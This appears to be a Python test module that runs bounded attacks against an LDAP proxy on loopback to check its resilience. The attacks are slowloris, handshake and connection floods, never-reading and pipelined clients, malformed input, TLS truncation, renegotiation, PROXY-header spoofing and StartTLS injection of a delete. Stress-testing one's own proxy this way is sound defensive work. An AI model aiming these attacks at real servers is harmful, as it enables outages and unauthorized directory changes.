"""Attacks on a proxy on loopback, bounded in number and time. Each is a context: it stands, or goes on, until left.

An attacker comes from 127.0.0.66 where addresses matter; honest clients from 127.0.0.1."""

import resource
import socket
import ssl
import subprocess
import threading
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack, contextmanager, suppress

from . import ber

ATTACKER = "127.0.0.66"
ANOTHER_ATTACKER = "127.0.0.67"
BIG = "ou=64x1000000,dc=x"
"""The base for which the directory has 64 MB of entries."""


def allow_many_sockets():
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))


@contextmanager
def slow_handshakes(endpoint, silent=1000, half=1000, after_hello=500):
    """Connections that say nothing, half a ClientHello, or a whole one and then nothing."""
    hello = client_hello()
    with ExitStack() as stack:
        for words, count in ((b"", silent), (hello[:len(hello) // 2], half), (hello, after_hello)):
            for _ in range(count):
                stack.enter_context(tcp(endpoint)).sendall(words)
        yield


@contextmanager
def slow_requests(endpoint, count=2500):
    """TLS sessions stuck in the middle of a request."""
    request = ber.search(1, "dc=x")
    with ExitStack() as stack, ThreadPoolExecutor(4) as pool:
        context = trusting()

        def stick(number):
            client = stack.enter_context(tls(endpoint, context))
            client.sendall(request[:1 + number % (len(request) - 1)])

        list(pool.map(stick, range(count)))
        yield


@contextmanager
def slowloris(endpoint):
    """5,000 connections: half of them stuck in the handshake, half in a request."""
    with slow_requests(endpoint), slow_handshakes(endpoint):
        yield


def handshake_flood(endpoint, lanes=4):
    """ClientHellos, which cost the attacker nothing and the proxy a signature each."""
    hello = client_hello()

    def one():
        with tcp(endpoint) as client:
            client.sendall(hello)
            client.recv(1)

    return over_and_over(one, lanes)


def connection_flood(endpoint, lanes=4, at_once=50):
    """More connections than an address may have."""

    def some():
        with ExitStack() as stack:
            for _ in range(at_once):
                stack.enter_context(tcp(endpoint))

    return over_and_over(some, lanes)


@contextmanager
def never_reading(endpoint, count=20):
    """Clients that ask for 64 MB each and take nothing of it."""
    with ExitStack() as stack:
        context = trusting()
        for _ in range(count):
            stack.enter_context(tls(endpoint, context)).sendall(ber.search(1, BIG, ber.SUB))
        yield


def pipelined_flood(endpoint, lanes=2):
    """Clients that send searches without ever reading."""
    context = trusting()
    batches = [b"".join(ber.search(number, "dc=x") for number in range(start, start + 400)) for start in range(1, 40_000, 400)]

    def flood():
        with tls(endpoint, context) as client:
            client.settimeout(0.5)
            for batch in batches:  # until the proxy takes no more
                client.sendall(batch)

    return over_and_over(flood, lanes)


def malformed_flood(endpoint, lanes=4):
    """Handshake, garbage, notice, again."""
    context = trusting()

    def one():
        with tls(endpoint, context) as client:
            client.sendall(b"\x30\x80")
            client.recv(200)

    return over_and_over(one, lanes)


def cut_off(endpoint, lanes=2):
    """TLS truncated: a FIN or a reset inside a request, without close_notify."""
    context, request = trusting(), ber.delete(1, "cn=victim")

    def one():
        client = tls(endpoint, context)
        client.sendall(request[:-1])
        socket.socket.shutdown(client, socket.SHUT_WR)
        socket.socket.close(client)

    return over_and_over(one, lanes)


def renegotiation(endpoint, lanes=8):
    """TLS 1.2 clients that ask for a new handshake; nobody tells them no before they go."""
    command = ["openssl", "s_client", "-connect", f"{endpoint.host}:{endpoint.port}", "-bind", ATTACKER, "-tls1_2"]

    def one():
        with subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE) as client:
            client.stdin.write(b"R\n")
            client.stdin.flush()
            while (line := client.stderr.readline()) and b"RENEGOTIATING" not in line:
                pass
            try:
                client.wait(0.05)
            except subprocess.TimeoutExpired:
                client.kill()

    return over_and_over(one, lanes)


def proxy_spoofing(endpoint, lanes=4):
    """Headers that name somebody else: from a peer that may send some, for a client that isn't trusted, and from one that
    may send none."""
    hello = client_hello()
    lies = [(source, header("203.0.113.9")) for source in (ATTACKER, ANOTHER_ATTACKER) for header in (proxy_v1, proxy_v2)]

    def one():
        for source, header in lies:
            with tcp(endpoint, source) as client, suppress(ConnectionError):
                client.sendall(header + hello)
                client.recv(1)

    return over_and_over(one, lanes)


def start_tls_injection(endpoint, lanes=4):
    """A delete in cleartext behind StartTLS, to be carried out once TLS is up."""
    context = trusting()
    injected = ber.extended(1, ber.START_TLS) + ber.delete(2, "cn=victim,dc=x")

    def one():
        plain = tcp(endpoint)
        plain.sendall(injected)
        plain.recv(100)
        with over_tls(plain, context) as client:
            client.sendall(ber.search(3))
            client.recv(100)

    return over_and_over(one, lanes)


@contextmanager
def over_and_over(attack, lanes):
    """`attack` again and again until the context is left; the proxy may refuse or reset at any point."""
    stop = threading.Event()
    stop.count = 0

    def lane():
        while not stop.is_set():
            try:
                attack()
            except OSError:
                pass
            stop.count += 1

    threads = [threading.Thread(target=lane, daemon=True) for _ in range(lanes)]
    for thread in threads:
        thread.start()
    try:
        yield stop
    finally:
        stop.set()
        for thread in threads:
            thread.join(30)


ATTACKS = {
    "slowloris": slowloris,
    "handshake flood": handshake_flood,
    "connection flood": connection_flood,
    "never reading": never_reading,
    "pipelined flood": pipelined_flood,
    "malformed flood": malformed_flood,
    "TLS truncation": cut_off,
    "renegotiation": renegotiation,
    "PROXY spoofing": proxy_spoofing,
    "StartTLS injection": start_tls_injection,
}
LISTENER = {"PROXY spoofing": f'proxy_protocol_from = ["{ATTACKER}/32"]'}
"""What an attack needs in the listener's table."""
EXTRA = {
    "StartTLS injection": """
[[listener]]
name = "starttls"
address = "127.0.0.1:0"
protocol = "ldap"
trusted_networks = ["127.0.0.0/8"]
pool = "directory"
"""
}
"""What an attack needs beside it."""


def against(proxy, name):
    """The attack of this name on a proxy that was configured for it."""
    return ATTACKS[name](proxy.endpoint("starttls" if name in EXTRA else "ldaps"))


def tcp(endpoint, source=ATTACKER):
    return socket.create_connection((endpoint.host, endpoint.port), 10, source_address=(source, 0))


def tls(endpoint, context):
    """A TLS 1.2 session, resumed where possible: it must be cheap for the attacker."""
    return over_tls(tcp(endpoint), context)


def over_tls(connection, context):
    client = context.wrap_socket(connection, session=getattr(context, "resumable", None))
    context.resumable = client.session
    return client


def proxy_v1(source):
    """A header of the PROXY protocol that names `source` as the client."""
    return f"PROXY TCP4 {source} 127.0.0.1 40000 636\r\n".encode()


def proxy_v2(source):
    """The same in its binary form."""
    address = socket.inet_aton(source) + socket.inet_aton("127.0.0.1") + b"\x9c\x40\x02\x7c"
    return b"\r\n\r\n\0\r\nQUIT\n\x21\x11" + len(address).to_bytes(2, "big") + address


def trusting():
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.maximum_version = ssl.TLSVersion.TLSv1_2
    return context


def client_hello():
    """The octets with which a TLS client begins."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    try:
        context.wrap_bio(incoming, outgoing).do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()
